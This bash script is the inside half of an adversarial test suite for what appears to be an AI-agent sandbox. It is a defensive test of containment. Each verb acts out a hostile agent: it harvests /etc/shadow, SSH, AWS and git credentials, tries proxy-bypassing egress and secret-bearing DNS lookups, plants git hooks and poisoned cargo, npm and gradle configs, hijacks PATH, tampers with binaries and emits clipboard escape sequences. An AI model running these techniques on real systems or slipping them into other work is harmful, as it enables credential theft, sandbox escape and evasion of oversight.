#!/bin/bash
# probes.sh: the inside half of the adversarial suite. run.sh commits it
# (with bin/adv_probe) into the test repository, so every lease finds it at
# /work/probes.sh, and starts each lease as `/bin/bash /work/probes.sh VERB
# ARGS...`. Each verb misbehaves the way a hostile agent would and copies
# whatever it could reach into /work (loot, listings); the host judges from
# canaries, listeners and /proc, never from what is printed here. A verb
# that ran to its end leaves /work/.probe-done.
set -u
P=/work/bin/adv_probe
verb=$1
shift
done_() { echo done >/work/.probe-done; }
loot() { cat -- "$@" >>/work/loot 2>&1; }
hold() { echo "holding"; read -r _; }

case "$verb" in
fs-host-paths) # HOSTREPO OUTSIDE HOSTHOME
	for f in "$1/uncommitted.txt" "$1/README" "$1/.git/config" \
	    "$2/secret" "$3/.ssh/id_ed25519" "$3/.aws/credentials" \
	    /root/.ssh/* /home/*/.ssh/* /etc/shadow /etc/gshadow \
	    /etc/sudoers /root/.bash_history; do
		loot "$f"
	done
	ls -la / "$1" "$2" "$3" /root /home >>/work/listing 2>&1
	done_ ;;
fs-uncommitted)
	cat /work/* >>/work/loot 2>&1
	git -C /work status --porcelain >>/work/listing 2>&1
	git -C /work stash list >>/work/listing 2>&1
	done_ ;;
fs-search)
	# Everything visible, searched for anything secret-shaped.
	find / -xdev \( -path /proc -o -path /sys -o -path /dev \) -prune \
	    -o -type f -readable -size -1M -print 2>/dev/null |
	    grep -v '^/usr/' | head -2000 >/work/files
	while read -r f; do
		case "$f" in /work/*) continue ;; esac
		grep -l -s -I -a -e canary -e SECRET -e PRIVATE -e TOKEN \
		    "$f" >>/work/hits 2>/dev/null
	done </work/files
	while read -r f; do loot "$f"; done </work/hits 2>/dev/null
	done_ ;;
fs-write-system) # TAG
	for d in / /usr /usr/bin /etc /bin /lib /opt /var /run /home /root \
	    /srv /mnt /sys /proc /dev; do
		touch "$d/adv-written-$1" 2>>/work/listing
		mkdir "$d/adv-dir-$1" 2>>/work/listing
	done
	echo x >"/usr/bin/adv-$1" 2>>/work/listing
	mv /usr/bin/env "/usr/bin/env-$1" 2>>/work/listing
	rm -f /usr/bin/true 2>>/work/listing
	chmod 777 /usr/bin/sh 2>>/work/listing
	done_ ;;
fs-proc-root) # HOSTREPO OUTSIDE
	for p in /proc/[0-9]*; do
		loot "$p/root$2/secret" "$p/root$1/uncommitted.txt" \
		    "$p/cwd/secret" "$p/root/etc/shadow"
		ls -la "$p/root/" "$p/cwd/" >>/work/listing 2>&1
		cat "$p/mountinfo" >>/work/listing 2>&1
	done
	loot /proc/kcore /proc/sysrq-trigger /proc/1/mem
	echo h >/proc/sysrq-trigger 2>>/work/listing
	done_ ;;
fs-other-write) # OTHER_WORKSPACE
	# The other lease's workspace, by its host path and by search.
	loot "$1/secret-a" "$1"/*
	echo pwned >"$1/pwned-by-b" 2>>/work/listing
	find / -xdev -name 'secret-a' 2>/dev/null >>/work/listing
	for f in $(find / -xdev -name 'secret-a' 2>/dev/null); do
		loot "$f"
		echo pwned >"$(dirname "$f")/pwned-by-b" 2>>/work/listing
	done
	loot /run/corral/rt/work/secret-a /proc/*/root/work/secret-a
	done_ ;;
fs-other-hold)
	head -c 24 /dev/urandom | od -An -tx1 | tr -d ' \n' >/work/secret-a
	echo >>/work/secret-a
	hold
	done_ ;;
fs-links) # OUTSIDE HOSTREPO
	ln -s /etc/shadow /work/link-shadow
	ln -s "$1/secret" /work/link-outside
	ln -s "$1" /work/link-dir
	ln -s "$2/.git" /work/link-repo-git
	ln /etc/passwd /work/hardlink-passwd 2>>/work/listing
	ln "$1/secret" /work/hardlink-outside 2>>/work/listing
	mkdir -p /work/deep/a/b && ln -s / /work/deep/a/b/root
	done_
	exit 1 ;;	# failed: the host removes it with gc
fs-dev) # TAG
	for d in /dev/mem /dev/kmem /dev/port /dev/vda /dev/sda /dev/kmsg \
	    /dev/vsock /dev/fuse /dev/net/tun /dev/loop0 /dev/loop-control; do
		loot "$d"
		echo "adv-kmsg-$1" >"$d" 2>>/work/listing
	done
	ls -la /dev >>/work/listing 2>&1
	mknod /work/adv-null c 1 3 2>>/work/listing
	done_ ;;
fs-setuid) # TAG
	for b in /usr/bin/su /usr/bin/sudo /usr/bin/passwd /usr/bin/mount \
	    /usr/bin/newgrp /usr/bin/chsh /usr/bin/gpasswd /usr/bin/pkexec; do
		[ -x "$b" ] && "$b" -c "touch /work/root-$1" </dev/null \
		    >>/work/listing 2>&1
	done
	unshare -r touch "/work/unshare-root-$1" >>/work/listing 2>&1
	$P userns
	done_ ;;
cred-env)
	env >/work/env.txt
	for p in /proc/[0-9]*; do
		tr '\0' '\n' <"$p/environ" >>/work/env.txt 2>/dev/null
		tr '\0' ' ' <"$p/cmdline" >>/work/env.txt 2>/dev/null
		echo >>/work/env.txt
	done
	done_ ;;
cred-home) # HOSTHOME
	ls -laR ~ /root "$1" >>/work/listing 2>&1
	for f in ~/.ssh/* ~/.aws/* ~/.config/*/* ~/.claude/* ~/.netrc \
	    ~/.git-credentials "$1"/.ssh/* "$1"/.aws/* "$1"/.claude/* \
	    "$1"/.git-credentials "$1"/.netrc "$1"/.config/gh/hosts.yml; do
		loot "$f"
	done
	done_ ;;
cred-sockets) # SSH_SOCK DOCKER_SOCK
	for s in "$1" "$2" /run/docker.sock /var/run/docker.sock \
	    /run/dbus/system_bus_socket /var/run/dbus/system_bus_socket \
	    /run/user/0/bus /tmp/.X11-unix/X0 \
	    $(find / -xdev -type s 2>/dev/null | grep -v '^/proc'); do
		$P unix "$s"
	done
	done_ ;;
cred-git) # (nothing)
	git -C /work config -l --show-origin >/work/git-config.txt 2>&1
	printf 'protocol=https\nhost=github.com\n\n' |
	    GIT_TERMINAL_PROMPT=0 git -C /work credential fill \
	    >>/work/git-config.txt 2>&1
	loot ~/.gitconfig ~/.git-credentials /etc/gitconfig
	done_ ;;
net-connect) # PORT ABSTRACT
	$P tcp4 127.0.0.1 "$1"
	$P tcp6 ::1 "$1"
	$P udp4 127.0.0.1 "$1"
	$P abstract "$1"
	$P abstract "$2"
	(exec 3<>"/dev/tcp/127.0.0.1/$1" && echo bash >&3) 2>>/work/listing
	(exec 3<>"/dev/udp/127.0.0.1/$1" && echo bash >&3) 2>>/work/listing
	python3 -c "
import socket
for fam, a in ((socket.AF_INET, '127.0.0.1'), (socket.AF_INET6, '::1')):
    try:
        s = socket.create_connection((a, $1), timeout=1); s.send(b'py')
    except OSError as e:
        print(e)" >>/work/listing 2>&1
	done_ ;;
net-dns) # PORT
	getent hosts example.com >>/work/listing 2>&1
	getent hosts localhost >>/work/listing 2>&1
	cat /etc/resolv.conf >>/work/listing 2>&1
	python3 -c "
import socket
q = b'\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00\x00\x01\x00\x01'
for a in ('127.0.0.1', '127.0.0.53'):
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(q, (a, $1))
    except OSError as e:
        print(e)
try:
    socket.getaddrinfo('example.com', 443)
except OSError as e:
    print(e)" >>/work/listing 2>&1
	done_ ;;
egress-curl) # URL [CURL OPTIONS...]: through the zone's proxy variables
	url=$1
	shift
	curl -sS --max-time 10 "$@" "$url" >>/work/listing 2>&1
	echo "curl rc=$?" >>/work/listing
	done_ ;;
egress-raw) # HOST PORT...: around the proxy: --noproxy, bash, python
	h=$1
	shift
	for port in "$@"; do
		curl -sS --max-time 5 --noproxy '*' "http://$h:$port/" \
		    >>/work/listing 2>&1
		(exec 3<>"/dev/tcp/$h/$port" && echo raw >&3) 2>>/work/listing
		python3 -c "
import socket
try:
    socket.create_connection(('$h', $port), timeout=2).send(b'py')
except OSError as e:
    print(e)" >>/work/listing 2>&1
	done
	done_ ;;
egress-dns) # SECRET: lookups of a secret-bearing name, every way
	getent hosts "$1.allowed.test" >>/work/listing 2>&1
	getent ahosts "$1.example.com" >>/work/listing 2>&1
	python3 -c "
import socket
for n in ('$1.allowed.test', '$1.example.com'):
    try:
        socket.getaddrinfo(n, 443)
    except OSError as e:
        print(e)" >>/work/listing 2>&1
	curl -sS -p --max-time 10 "http://$1.allowed.test:443/" \
	    >>/work/listing 2>&1
	echo "curl rc=$?" >>/work/listing
	done_ ;;
egress-flood) # N: N refused CONNECTs, as fast as the proxy answers
	python3 -c "
import socket, sys
n = 0
for _ in range(int(sys.argv[1])):
    s = socket.socket(socket.AF_UNIX)
    try:
        s.connect('/run/egress/proxy.sock')
        s.send(b'CONNECT evil.test:1 HTTP/1.1\\r\\n\\r\\n')
        s.recv(256)
        n += 1
    except OSError as e:
        print(e)
    s.close()
print('answered', n)" "$1" >>/work/listing 2>&1
	done_ ;;
egress-sock) # PATH...: unix sockets that are not this lease's own proxy
	for s in "$@"; do
		python3 -c "
import socket, sys
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
try:
    s.connect(sys.argv[1])
    s.send(b'CONNECT allowed.test:80 HTTP/1.1\\r\\n\\r\\n')
    print('connected', sys.argv[1], s.recv(64))
except OSError as e:
    print(sys.argv[1], e)" "$s" >>/work/listing 2>&1
	done
	ls -la /run /run/egress /run/corral >>/work/listing 2>&1
	done_ ;;
side-push) # HOSTREPO
	git -C /work push "$1" HEAD:refs/heads/pwned >>/work/listing 2>&1
	git -C /work push "file://$1" HEAD:refs/heads/pwned2 \
	    >>/work/listing 2>&1
	git -C /work remote add origin "$1" >>/work/listing 2>&1
	git -C /work push origin HEAD:refs/heads/pwned3 >>/work/listing 2>&1
	git -C /work push --mirror origin >>/work/listing 2>&1
	done_ ;;
side-gitdir) # HOSTREPO CANARYPATH
	# Rewrite the workspace's own repository every way an agent might.
	cd /work || exit 1
	git commit --allow-empty -q -m "agent commit" >>/work/listing 2>&1
	git update-ref refs/heads/main HEAD >>/work/listing 2>&1
	git update-ref refs/heads/corral-pwned HEAD >>/work/listing 2>&1
	printf '#!/bin/sh\ntouch %s\n' "$2" >.git/hooks/post-checkout
	chmod +x .git/hooks/post-checkout
	cp .git/hooks/post-checkout .git/hooks/pre-push
	git config core.hooksPath .git/hooks
	git config core.fsmonitor "touch $2"
	git config core.sshCommand "touch $2"
	git config remote.origin.url "$1"
	echo "$1/.git/objects" >.git/objects/info/alternates
	done_ ;;
side-dotgit-link) # HOSTREPO
	rm -rf /work/.git
	ln -s "$1/.git" /work/.git
	git -C /work log --oneline >>/work/listing 2>&1
	git -C /work update-ref refs/heads/pwned HEAD >>/work/listing 2>&1
	done_
	exit 1 ;;
side-worktree) # WORKTREE STATEDIR
	ls -la "$1" "$2" >>/work/listing 2>&1
	echo pwned >"$1/README" 2>>/work/listing
	echo pwned >"$1/pwned" 2>>/work/listing
	echo pwned >>"$2/corral.db" 2>>/work/listing
	done_ ;;
import-bare-repo) # CANARYPATH
	# A bare repository spelled without .git (HEAD, config, objects,
	# refs) and one that borrows its config through commondir: git run
	# by the reviewer anywhere beneath them reads that config.
	for d in evil evil2 evil3/x; do
		mkdir -p "/work/$d/objects" "/work/$d/refs/heads"
		echo 'ref: refs/heads/main' >"/work/$d/HEAD"
		printf '[core]\n\tbare = true\n\tpager = "touch %s; cat"\n' \
		    "$1" >"/work/$d/config"
		echo x >"/work/$d/objects/keep"
		echo x >"/work/$d/refs/heads/keep"
	done
	rm -r /work/evil2/objects /work/evil2/refs
	echo ../evil3/x >/work/evil2/commondir
	echo "agent change" >>/work/README
	done_ ;;
import-tool-config) # CANARYPATH
	# Config that the operator's next cargo, yarn, npm, mvn, gradle,
	# rustup, mise, dotnet or nix run executes from: none is "code".
	cd /work || exit 1
	mkdir -p .cargo .mvn gradle/wrapper .bundle .yarn/releases
	printf '[build]\nrustc-wrapper = "/bin/sh -c touch %s"\n' "$1" \
	    >.cargo/config.toml
	printf 'yarnPath: .yarn/releases/evil.cjs\n' >.yarnrc.yml
	printf 'require("fs").writeFileSync("%s", "")\n' "$1" \
	    >.yarn/releases/evil.cjs
	printf 'node-options=--require ./.yarn/releases/evil.cjs\n' >.npmrc
	printf -- '-javaagent:evil.jar\n' >.mvn/jvm.config
	printf 'distributionUrl=http\\://evil.test/g.zip\n' \
	    >gradle/wrapper/gradle-wrapper.properties
	printf '[toolchain]\npath = "/work/.bin"\n' >rust-toolchain.toml
	printf '[env]\n_.source = "./hijack.sh"\n' >mise.toml
	printf '<Project><Target Name="x" BeforeTargets="Build"><Exec Command="touch %s"/></Target></Project>\n' \
	    "$1" >Directory.Build.props
	printf 'BUNDLE_GEMFILE: "evil"\n' >.bundle/config
	printf '{ pkgs ? import <nixpkgs> {} }: pkgs.mkShell { shellHook = "touch %s"; }\n' \
	    "$1" >shell.nix
	done_ ;;
import-bare-fixture) # CANARYPATH: the base's own bare fixture rewritten
	printf '[core]\n\tbare = true\n\tpager = "touch %s; cat"\n' "$1" \
	    >/work/fixture.git/config
	echo "agent change" >>/work/README
	done_ ;;
supply-hijack) # CANARYPATH
	mkdir -p /work/bin2
	for t in git sh ls cat env cp rm bwrap corral; do
		printf '#!/bin/sh\ntouch %s\n' "$1" >"/work/bin2/$t"
		chmod +x "/work/bin2/$t"
		cp "/work/bin2/$t" "/tmp/$t" 2>/dev/null
	done
	printf '#!/bin/sh\ntouch %s\n' "$1" >/work/hijack.sh
	chmod +x /work/hijack.sh
	git -C /work config core.fsmonitor /work/hijack.sh
	git -C /work config core.editor /work/hijack.sh
	git -C /work config diff.external /work/hijack.sh
	git -C /work config core.pager /work/hijack.sh
	git -C /work config filter.evil.clean /work/hijack.sh
	git -C /work config filter.evil.smudge /work/hijack.sh
	echo '* filter=evil diff=evil' >/work/.gitattributes
	printf 'export PATH=/work/bin2:$PATH\n' >/work/.envrc
	printf 'PATH=/work/bin2:$PATH\n' >>~/.profile
	PATH=/work/bin2:$PATH
	done_
	exit 1 ;;
supply-tamper)
	for f in /run/corral/init /usr/bin/bwrap /usr/lib/x86_64-linux-gnu/libc.so.6 \
	    /work/bin/adv_probe /etc/ld.so.cache /etc/passwd; do
		echo tampered >>"$f" 2>>/work/listing
		chmod 777 "$f" 2>>/work/listing
	done
	echo tampered >/etc/ld.so.preload 2>>/work/listing
	done_ ;;
res-chmod000)
	mkdir -p /work/locked/a/b /work/locked/c
	for i in 1 2 3; do echo x >"/work/locked/a/b/f$i"; done
	chmod 000 /work/locked/a/b /work/locked/a /work/locked/c /work/locked
	chmod 000 /work/.git
	done_
	exit 1 ;;
res-fifo)
	mkfifo /work/fifo /work/locked-fifo
	python3 -c "
import socket
s = socket.socket(socket.AF_UNIX); s.bind('/work/sock')" 2>>/work/listing
	ln -s /work/fifo /work/fifo-link
	done_
	exit 1 ;;
res-deep)
	# Deeper than any host walk goes (the hand-back, extraction, gc).
	python3 -c "
import os
os.chdir('/work')
for _ in range(700):
    os.mkdir('d'); os.chdir('d')
open('file', 'w').write('bottom')"
	done_
	exit 1 ;;
res-daemon)
	$P daemon /work/daemon.pid
	sleep 0.5
	done_ ;;
res-sleep)
	sleep 1e9 ;;
term-console) # TAG
	echo "console-$1" >/dev/console
	echo "tty-$1" >/dev/tty
	for t in /dev/tty0 /dev/tty1 /dev/ttyS0 /dev/kmsg; do
		echo "host-$1" >"$t"
	done 2>>/work/listing
	done_ ;;
term-escapes) # TAG
	clip=$(printf 'adv-clip-%s' "$1" | base64)
	pass=$(printf 'adv-pass-%s' "$1" | base64)
	# Clipboard, titles, tmux passthrough, a hyperlink, reports, modes.
	printf '\033]52;c;%s\007' "$clip"
	printf '\033]0;adv-title-%s\007\033]2;adv-title-%s\033\\' "$1" "$1"
	printf '\033Ptmux;\033\033]52;c;%s\007\033\\' "$pass"
	printf '\033]8;;file:///etc/shadow\033\\link\033]8;;\033\\'
	printf '\033[21t\033[6n\033[?1049h\033[2J\033[?1049l\007'
	printf '\033P$q"p\033\\\033[>c\n'
	echo "adv-visible-$1"
	done_ ;;
xz-write) # CMD...: the script the lease's declared check runs becomes CMD
	printf '%s\n' "$*" >/work/xz.sh
	done_ ;;
true)
	done_ ;;
*)
	echo "probes.sh: unknown verb $verb" >&2
	exit 2 ;;
esac
